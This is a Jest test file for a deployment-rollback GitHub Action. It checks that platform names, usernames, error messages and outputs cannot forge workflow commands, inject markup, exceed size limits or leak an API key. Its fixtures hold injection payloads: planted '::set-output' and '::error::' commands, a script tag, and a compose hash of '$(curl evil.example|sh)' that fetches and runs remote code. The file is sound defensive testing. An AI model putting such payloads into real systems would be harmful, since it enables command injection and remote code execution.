import { describe, expect, it } from '@jest/globals';
import type { ActionRun } from '../../../scripts/run-action.js';
import { annotations, H, rollback, sandboxWith } from '../helpers.js';
import { expectFailed, expectNoForgedCommands, expectRedeployedSaid } from './checks.js';

/** Class 3: platform text is untrusted; it reaches the log, annotations and summary only made safe. */
const HASHES = [H('v1'), H('v2'), H('v3')];
const NAME = 'web\n::error::x';
const USERNAME = 'dev\r::warning::y\u2028::set-output name=a::b';
const MESSAGE = 'boom\n##[error]z\n::error::x <script>alert(1)</script> [click](https://evil.example/x)\n# heading\n> quote\n| a | b |';
const PLANTED = ['::error::x', '::warning::y', '::set-output name=a::b', '##[error]z'];

/** Platform text may not shape the summary: only its own heading and table rows start a line with # or |. */
function expectInertSummary(run: ActionRun): void {
  expect(run.summary).not.toMatch(/<script/i);
  expect(run.summary).not.toContain('](');
  expect(run.summary).not.toMatch(/https:\/\/evil/);
  for (const line of run.summary.split('\n')) {
    if (line.startsWith('#')) expect(line).toBe('## Rollback');
    expect(line.startsWith('>')).toBe(false);
    // A table row: exactly its own three pipes, so no cell was split by platform text.
    if (line.startsWith('|')) expect(line.split('|')).toHaveLength(4);
  }
}

describe('hostile names, usernames and error messages', () => {
  it('never become workflow commands, and the summary escapes them', async () => {
    const sandbox = await sandboxWith({
      hashes: HASHES,
      cvms: [{ name: NAME }],
      username: USERNAME,
      update: { outcome: 'failed', errorMessage: MESSAGE }
    });
    const run = await rollback(sandbox, { timeout: '60' }, { env: { RUNNER_DEBUG: '1' } });
    expectFailed(run, 'Rollback failed on the platform');
    expectNoForgedCommands(run, PLANTED);
    expectInertSummary(run);
    expect(run.stdout).toContain('boom'); // the message is shown, made safe, not dropped
    expect(run.summary).toContain('boom');
    expect(run.summary).toContain('dev'); // the author row, escaped
    expectRedeployedSaid(run, 'accepted');
  });

  it('an error body planting commands is shown safely too', async () => {
    const body = JSON.stringify({ detail: MESSAGE });
    const sandbox = await sandboxWith({ hashes: HASHES, faults: [{ endpoint: 'redeploy', kind: 'status', status: 422, body }] });
    const run = await rollback(sandbox);
    expectFailed(run, 'Phala Cloud refused the request');
    expectNoForgedCommands(run, PLANTED);
    expectInertSummary(run);
    expectRedeployedSaid(run, 'nothing');
  });
});

describe('outputs are validated', () => {
  it('a compose hash that is not 64 hex is refused as an output, before anything is sent', async () => {
    const sandbox = await sandboxWith({ hashes: HASHES, cvms: [{ compose_hash: '$(curl evil.example|sh)' }] });
    const run = await rollback(sandbox);
    expectFailed(run, "Refused a malformed 'previous_compose_hash' output");
    expect(run.outputs.previous_compose_hash).toBeUndefined();
    expect(JSON.stringify(run.outputs)).not.toContain('curl');
    expect(sandbox.redeploys).toHaveLength(0);
    expectRedeployedSaid(run, 'nothing');
  });
});

describe('size', () => {
  it('a 1 MiB error message keeps every line under 16 KiB and the summary under 512 KiB', async () => {
    const sandbox = await sandboxWith({ hashes: HASHES, update: { outcome: 'failed', errorMessage: `oom ${'E'.repeat(1024 * 1024)}` } });
    const run = await rollback(sandbox, { timeout: '60' });
    expectFailed(run, 'Rollback failed on the platform');
    for (const line of run.stdout.split('\n')) expect(Buffer.byteLength(line)).toBeLessThan(16 * 1024);
    expect(Buffer.byteLength(run.summary)).toBeLessThan(512 * 1024);
    expectRedeployedSaid(run, 'accepted');
  });

  it('so does a 1 MiB error body', async () => {
    const body = JSON.stringify({ detail: `gateway says ${'x'.repeat(1024 * 1024)}` });
    const sandbox = await sandboxWith({ hashes: HASHES, faults: [{ endpoint: 'listAppCvms', kind: 'status', status: 500, body }] });
    const run = await rollback(sandbox);
    expect(run.exitCode).toBe(1);
    for (const line of run.stdout.split('\n')) expect(Buffer.byteLength(line)).toBeLessThan(16 * 1024);
    expect(Buffer.byteLength(run.summary)).toBeLessThan(512 * 1024);
  });
});

describe('an API key echoed back by the platform', () => {
  it.each([
    ['whole', false],
    ['in part, at the end of a long message', true]
  ])('%s never appears in the log, outputs or summary', async (_, echoKeyPartial) => {
    const sandbox = await sandboxWith({ hashes: HASHES, faults: [{ endpoint: 'listAppCvms', kind: 'echo-key', status: 401, echoKeyPartial }] });
    const run = await rollback(sandbox, {}, { env: { RUNNER_DEBUG: '1' } });
    expect(run.exitCode).toBe(1);
    expect(annotations(run)[0]!.title).toBe('Phala Cloud rejected the API key');
    const key = sandbox.scenario.apiKey;
    const echoed = echoKeyPartial ? key.slice(0, Math.ceil(key.length / 2)) : key;
    const leaking = (run.stdout + run.stderr).split('\n').filter((line) => line.includes(echoed) && line !== `::add-mask::${key}`);
    expect(leaking).toEqual([]);
    expect(JSON.stringify(run.outputs)).not.toContain(echoed);
    expect(run.summary).not.toContain(echoed);
    expect(run.summary).toContain('&#42;&#42;&#42;'); // it was there, and was removed (*** escaped)
  });
});
